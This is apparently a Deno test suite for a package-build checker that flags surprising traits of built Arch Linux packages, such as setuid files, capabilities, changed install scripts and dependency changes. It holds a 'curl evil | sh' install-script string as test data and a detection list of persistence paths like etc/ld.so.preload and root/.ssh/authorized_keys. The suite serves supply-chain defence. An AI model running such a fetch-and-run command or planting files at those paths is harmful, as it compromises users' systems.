import { assertEquals } from "@std/assert";
import { digestOf, type Product } from "../../../../src/building/queue/product.ts";
import {
  checkProducts,
  type ProductExpectation,
} from "../../../../src/building/queue/product_check.ts";
import { parseSrcinfo } from "../../../../src/formats/pacman/srcinfo.ts";
import { PACKAGER, srcinfoText } from "../../../support/builds.ts";

const SCRIPT = "post_install() { :; }\n";

function product(changes: Partial<Product> = {}): Product {
  return {
    ...{ name: "foo", version: "1.1-1", architecture: "x86_64", packager: PACKAGER },
    ...{ size: 1000, installedSize: 2000, files: ["usr/", "usr/bin/", "usr/bin/foo"] },
    ...{ privileged: [], script: null, depends: ["a"], provides: [], conflicts: [] },
    ...{ replaces: [], groups: [], backup: [] },
    ...changes,
  };
}

function expectation(changes: Partial<ProductExpectation> = {}, lines: string[] = []) {
  const srcinfo = srcinfoText("foo", { version: "1.1", lines: ["depends = a", ...lines] });
  return {
    ...{ packageBase: "foo", packageNames: ["foo"], version: "1.1-1", isVcs: false },
    ...{ architecture: "x86_64", packager: PACKAGER, srcinfo: parseSrcinfo(srcinfo) },
    approvedFiles: new Set([digestOf(SCRIPT)]),
    previous: new Map(),
    broken: new Set<string>(),
    differences: [],
    official: () => [],
    ...changes,
  } satisfies ProductExpectation;
}

const published = (changes: Partial<Product> = {}) => ({
  previous: new Map([["foo", product({ version: "1.0-1", ...changes })]]),
});

/** The kinds of facts, each with what the product has. */
const factsOf = (
  changes: Partial<Product>,
  expected: Partial<ProductExpectation> = {},
  lines: string[] = [],
) =>
  checkProducts([product(changes)], expectation(expected, lines)).map(({ kind, after }) =>
    `${kind} ${after}`
  );

Deno.test("a product as approved has no surprises, first or not", () => {
  assertEquals(factsOf({}), []);
  assertEquals(factsOf({}, published()), []);
  assertEquals(factsOf({ script: digestOf(SCRIPT) }), []);
  assertEquals(factsOf({ architecture: "any" }), []);
});

Deno.test("every surprise is reported as a fact", () => {
  const surprises: [Partial<Product>, string][] = [
    [{ name: "glibc" }, "name glibc"],
    [{ version: "1.2-1" }, "version 1.2-1"],
    [{ architecture: "aarch64" }, "architecture aarch64"],
    [{ packager: "evil" }, "packager evil"],
    [{ packager: null }, "packager null"],
    [{ replaces: ["sudo"] }, "replaces sudo"],
    [{ groups: ["base-devel"] }, "groups base-devel"],
    [{ provides: ["libc.so=6-64"] }, "provides libc.so=6-64"],
    [{ conflicts: ["systemd"] }, "conflicts systemd"],
    [{ depends: ["a", "npm"] }, "depends npm"],
    [{ backup: ["etc/passwd"] }, "backup etc/passwd"],
    [{ script: digestOf("curl evil | sh") }, `script ${digestOf("curl evil | sh")}`],
    [
      { privileged: [{ path: "usr/bin/foo", mode: 0o4755, attributes: [] }] },
      "privileged usr/bin/foo: setuid (mode 4755)",
    ],
    [
      { privileged: [{ path: "usr/bin/foo", mode: 0o755, attributes: ["security.capability"] }] },
      "privileged usr/bin/foo: security.capability (mode 755)",
    ],
    ...[
      "etc/sudoers.d/foo",
      "etc/ld.so.preload",
      "etc/profile.d/foo.sh",
      "usr/share/libalpm/hooks/foo.hook",
      "usr/lib/systemd/system/multi-user.target.wants/foo.service",
      "usr/lib/udev/rules.d/foo.rules",
      "root/.ssh/authorized_keys",
      "home/me/.bashrc",
      "usr/local/bin/sudo",
      "tmp/x",
      "bin/sh",
    ].map((path): [Partial<Product>, string] => [
      { files: ["usr/bin/foo", path] },
      `sensitive_path ${path}`,
    ]),
  ];
  for (const [changes, fact] of surprises) {
    const found = factsOf(changes).filter((each) => each !== "name null");
    assertEquals(found, [fact]);
  }
});

Deno.test("what was published before is no surprise again, except where it changes", () => {
  const odd: Partial<Product> = {
    privileged: [{ path: "usr/bin/foo", mode: 0o4755, attributes: [] }],
    files: ["usr/bin/foo", "etc/sudoers.d/foo"],
    replaces: ["old-foo"],
    groups: ["mine"],
    script: digestOf("odd"),
    depends: ["a", "b"],
  };
  assertEquals(factsOf(odd, published(odd)), []);
  assertEquals(
    factsOf({
      ...odd,
      privileged: [{ path: "usr/bin/foo", mode: 0o6755, attributes: [] }],
      replaces: ["old-foo", "sudo"],
    }, published(odd)),
    ["replaces sudo", "privileged usr/bin/foo: setuid, setgid (mode 6755)"],
  );
});

Deno.test("replaces and groups are surprises even if they were approved with the files", () => {
  assertEquals(factsOf({ replaces: ["x"] }, {}, ["replaces = x"]), ["replaces x"]);
  assertEquals(factsOf({ groups: ["x"] }, {}, ["groups = x"]), ["groups x"]);
  assertEquals(factsOf({ provides: ["x"] }, {}, ["provides = x"]), []);
});

Deno.test("a version that does not rise, and a large change in files or size, are surprises", () => {
  assertEquals(factsOf({}, published({ version: "1.1-1" })), ["version 1.1-1"]);
  assertEquals(factsOf({}, published({ version: "2.0-1" })), ["version 1.1-1"]);
  const many = Array.from({ length: 10 }, (_, index) => `usr/share/${index}`);
  assertEquals(factsOf({}, published({ files: many })), ["files 3"]);
  const large = 100 * 1024 ** 2;
  assertEquals(factsOf({}, published({ size: large })), ["size 1000"]);
  assertEquals(factsOf({ size: large }, published()), [`size ${large}`]);
  assertEquals(factsOf({ size: large }, published({ size: large / 2 })), []);
});

Deno.test("versions that makepkg adds to sonames, and the package's own in relations, are as approved", () => {
  const lines = ["depends = libx.so", "provides = foo-api=1.1", "depends_x86_64 = only"];
  assertEquals(
    factsOf({ depends: ["a", "libx.so=5-64", "only"], provides: ["foo-api=1.1"] }, {}, lines),
    [],
  );
  const rebuild = { version: "1.1-1.1" };
  const own = ["depends = foo-lib=1.1-1"];
  assertEquals(
    factsOf({ version: "1.1-1.1", depends: ["a", "foo-lib=1.1-1.1"] }, rebuild, own),
    [],
  );
});

Deno.test("the name of a distribution package is a surprise until it has been published once", () => {
  const official = () => ["extra/os/x86_64"];
  assertEquals(factsOf({}, { official }), ["official_name foo"]);
  assertEquals(factsOf({}, { official, ...published() }), []);
});

Deno.test("a missing package is a surprise, unless it is for other architectures", () => {
  const srcinfo = parseSrcinfo(
    `${srcinfoText("foo", { names: ["foo", "foo-arm"] })}\tarch = aarch64\n`,
  );
  const expected = expectation({ packageNames: ["foo", "foo-doc", "foo-arm"], srcinfo });
  const depends: string[] = [];
  const facts = checkProducts([product({ depends })], expected);
  assertEquals(facts.map(({ packageName, after }) => [packageName, after]), [["foo-doc", null]]);
});

Deno.test("a flood of facts is counted, not kept", () => {
  const files = Array.from({ length: 5000 }, (_, index) => `tmp/${index}`);
  const facts = checkProducts([product({ files })], expectation());
  assertEquals(facts.length, 21);
  assertEquals(facts.at(-1)?.reason, "and 4980 more of this kind");
});

Deno.test("a library released before may change its soname version, but not its name or prefix", () => {
  const before = published({ depends: ["a", "lib:libx.so.1"], provides: ["lib:libfoo.so.1"] });
  const now = { depends: ["a", "lib:libx.so.2"], provides: ["lib:libfoo.so.3"] };
  assertEquals(factsOf(now, before), []);
  assertEquals(factsOf(now), ["depends lib:libx.so.2", "provides lib:libfoo.so.3"]);
  assertEquals(
    factsOf({ depends: ["a", "lib32:libx.so.2", "lib:liby.so.1"] }, before),
    ["depends lib32:libx.so.2", "depends lib:liby.so.1"],
  );
  const lines = ["depends = lib:libx.so.1"];
  assertEquals(factsOf({ depends: ["a", "lib:libx.so.2"] }, {}, lines), []);
});
